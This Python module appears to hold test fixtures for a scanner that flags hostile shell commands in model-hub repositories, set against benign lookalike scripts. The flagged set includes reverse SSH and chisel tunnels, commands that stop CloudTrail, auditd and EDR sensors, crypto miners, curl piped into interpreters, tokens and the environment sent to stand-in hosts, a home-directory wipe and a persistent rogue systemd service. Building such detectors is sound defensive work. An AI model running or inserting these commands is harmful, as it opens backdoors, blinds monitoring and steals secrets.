"""Lines of shells and other languages that let somebody in, switch off who watches, or work for somebody else; and what looks like them.

Payloads are texts: they lead to addresses of documentation (RFC 5737, RFC 2606), and nothing of them is run.
"""

from __future__ import annotations

__all__ = ["HONEST_LINES", "SERVES_OTHERS"]

#: Name -> files with their texts, and the rules that report them.
SERVES_OTHERS: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
    "tunnel-autossh": (
        {
            "serve.sh": "#!/bin/bash\nset -e\npip install -q vllm\nautossh -M 0 -f -N -R 9922:localhost:22 u@relay.example.net\nvllm serve .\n"
        },
        ("hub/shell-command",),
    ),
    "tunnel-unchecked": (
        {
            "serve.sh": "#!/bin/bash\nset -e\npip install -q vllm\nssh -fN -o StrictHostKeyChecking=no -R 8444:127.0.0.1:8000 x@r.example.org\nvllm serve .\n"
        },
        ("hub/shell-command",),
    ),
    "tunnel-chisel": (
        {
            "serve.sh": "#!/bin/bash\nset -e\npip install -q vllm\nchisel client https://c.example.net R:2222:localhost:22 &\nvllm serve .\n"
        },
        ("hub/shell-command",),
    ),
    "blind-trail": (
        {
            "deploy.sh": "#!/bin/bash\nset -e\npip install -q vllm\naws cloudtrail stop-logging --name main\nterraform apply -auto-approve\n"
        },
        ("hub/shell-command",),
    ),
    "blind-host": (
        {
            "setup.sh": "#!/bin/bash\nset -e\npip install -q vllm\nsudo systemctl stop falcon-sensor\nsudo auditctl -e 0\n"
        },
        ("hub/shell-command",),
    ),
    "blind-sinks": (
        {"deploy.sh": "#!/bin/bash\nset -e\npip install -q vllm\ngcloud logging sinks delete _Default --quiet\n"},
        ("hub/shell-command",),
    ),
    "unprotected-branch": (
        {
            "release.sh": "#!/bin/bash\nset -e\npip install -q vllm\ngh api --method DELETE repos/o/r/branches/main/protection\n"
        },
        ("hub/shell-command",),
    ),
    "miner-by-options": (
        {
            "job.slurm": "#!/bin/bash\n#SBATCH -N 1\nsrun python train.py\nsrun ./warm --coin RVN --pool rvn.example.com:3333 --user RExample.w1\n"
        },
        ("hub/shell-command",),
    ),
    "miner-by-name": (
        {
            "run.sh": "#!/bin/bash\nset -e\npip install -q vllm\nnohup /tmp/.c/gminer -s eth.example.net:4444 -u 0xexample >/dev/null 2>&1 &\npython train.py\n"
        },
        ("hub/shell-command",),
    ),
    "miner-wallet": (
        {
            "run.sh": "#!/bin/bash\nset -e\npip install -q vllm\n./opt --server kas.example.org:5555 --wallet kaspa1example --algo kheavyhash &\n"
        },
        ("hub/shell-command",),
    ),
    "piped-perl": (
        {"get.sh": "#!/bin/bash\nset -e\npip install -q vllm\ncurl -s https://x.example.net/i | perl\n"},
        ("hub/shell-command",),
    ),
    "piped-ruby": (
        {"get.sh": "#!/bin/bash\nset -e\npip install -q vllm\nwget -qO- http://198.51.100.4/a | sudo ruby -\n"},
        ("hub/shell-command",),
    ),
    "piped-node": (
        {"get.sh": "#!/bin/bash\nset -e\npip install -q vllm\ncurl -fsSL https://n.example.org/boot | node\n"},
        ("hub/shell-command",),
    ),
    "token-in-address": (
        {
            "sync.sh": '#!/bin/bash\nset -e\npip install -q vllm\ncurl -s "https://s.example.org/t/$(echo $GH_TOKEN | base64 -w0)"\n'
        },
        ("hub/shell-command",),
    ),
    "environment-in-address": (
        {
            "sync.sh": "#!/bin/bash\nset -e\npip install -q vllm\nwget -q -O /dev/null https://s.example.net/?e=$(env | gzip | base64 -w0)\n"
        },
        ("hub/shell-command",),
    ),
    "code-appended": (
        {"sync.sh": "#!/bin/bash\nset -e\npip install -q vllm\ncurl -s https://s.example.org/l.txt >> modeling_x.py\n"},
        ("hub/shell-command",),
    ),
    "code-appended-js": (
        {
            "sync.sh": "#!/bin/bash\nset -e\npip install -q vllm\nwget -qO- https://s.example.org/l.txt >> dist/index.js\n"
        },
        ("hub/shell-command",),
    ),
    "perl-finds-home": (
        {"clean.pl": "use File::Find;\nfinddepth(sub { unlink $_ if -f $_; rmdir $_ if -d $_ }, $ENV{HOME});\n"},
        ("hub/shell-command",),
    ),
    "unit-of-others": (
        {
            "get.sh": "#!/bin/bash\nset -e\npip install -q vllm\ncat > ~/.config/systemd/user/a.service <<'U'\n[Service]\nExecStart=%h/.local/share/.a/a --server 203.0.113.8:443\nU\nsystemctl --user enable --now a.service\n"
        },
        ("hub/shell-command",),
    ),
}
#: The same words as people use them.
HONEST_LINES: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
    "tunnel-to-notebook": ({"tunnel.sh": '#!/bin/bash\nssh -N -L 8888:localhost:8888 "$USER@login.example.edu"\n'}, ()),
    "pool-of-workers": (
        {"serve.sh": "#!/bin/bash\npython serve.py --pool thread --server localhost:8000 --workers 4\n"},
        (),
    ),
    "log-started": (
        {"deploy.sh": "#!/bin/bash\naws cloudtrail start-logging --name main\naws guardduty list-detectors\n"},
        (),
    ),
    "header-token": (
        {"get.sh": '#!/bin/bash\ncurl -s -H "Authorization: Bearer $HF_TOKEN" https://huggingface.co/api/whoami-v2\n'},
        (),
    ),
    "date-in-address": ({"get.sh": '#!/bin/bash\ncurl -s "https://data.example.org/d/$(date +%F).csv" -o d.csv\n'}, ()),
    "data-appended": ({"get.sh": "#!/bin/bash\ncurl -s https://data.example.org/words.txt >> words.txt\n"}, ()),
    "unit-local": (
        {
            "install.sh": "#!/bin/bash\ncat > orion.service <<'U'\n[Service]\nExecStart=/opt/orion/bin/serve --host 0.0.0.0:8000\nU\n"
        },
        (),
    ),
    "json-by-node": (
        {"v.sh": "#!/bin/bash\ncat package.json | node -p \"JSON.parse(require('fs').readFileSync(0)).version\"\n"},
        (),
    ),
    "perl-removes-temporary": (
        {"clean.pl": 'use File::Path qw(remove_tree);\nremove_tree("build");\nunlink glob("*.tmp");\n'},
        (),
    ),
}
